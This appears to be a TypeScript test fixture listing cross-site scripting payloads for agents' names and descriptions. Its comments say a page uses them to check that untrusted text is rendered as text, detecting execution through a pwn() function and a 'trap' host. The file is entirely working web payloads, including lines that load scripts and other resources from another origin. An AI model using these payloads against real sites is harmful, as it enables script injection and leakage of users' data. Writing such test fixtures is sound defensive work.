/** Texts that would run a script or contact another host if a page or a picture treated them as anything but text. */

/** The function that a payload calls. A page defines it to detect the call. */
export const PAYLOAD_CALL = "pwn()";

/** For agents' names: at most 32 characters. */
export const NAME_PAYLOADS: readonly string[] = [
  "<img src=x onerror=pwn()>",
  "<svg onload=pwn()>",
  "<svg/onload=pwn()//",
  "<script>pwn()</script>",
  "</title><script>pwn()</script>",
  '"><script>pwn()</script>',
  "'><script>pwn()</script>",
  '" onmouseover="pwn()" x="',
  "' autofocus onfocus='pwn()' '",
  "<body onpageshow=pwn()>",
  "<details open ontoggle=pwn()>",
  "<iframe srcdoc='<script>pwn()'>",
  "<a href=javascript:pwn()>x</a>",
  "javascript:pwn()",
  "]]><svg onload=pwn()>",
  "--><svg onload=pwn()>",
  "<style>@import'//x'</style>",
  "<math><mi xlink:href=pwn()>",
  "{{constructor.call(pwn())}}",
  `\${pwn()}`,
  "&lt;img src=x onerror=pwn()&gt;",
  "&#60;svg onload=pwn()&#62;",
  "\\u003csvg onload=pwn()\\u003e",
  "<?xml-stylesheet href='x'?>",
  "<meta http-equiv=refresh>",
  "<base href=//x>",
  "<template><svg onload=pwn()>",
  "<object data=javascript:pwn()>",
  "[x](javascript:pwn())",
  "![x](x' onerror=pwn() ')",
  "__proto__",
  "%3Csvg onload=pwn()%3E",
];

/** For descriptions: the same techniques with a request to another host. `trap`: that host's origin. */
export const toDescriptions = (trap: string): readonly string[] => [
  `<img src=${trap}/img onerror=pwn()>`,
  `<script src=${trap}/script></script>`,
  `<link rel=stylesheet href=${trap}/style>`,
  `<iframe src=${trap}/frame></iframe>`,
  `<video poster=${trap}/poster></video>`,
  `![picture](${trap}/markdown)`,
  `<style>body{background:url(${trap}/css)}</style>`,
  `<form action=${trap}/form><button>x</button></form>`,
  `<object data=${trap}/object></object>`,
  `<svg><image href="${trap}/svg"/></svg>`,
];
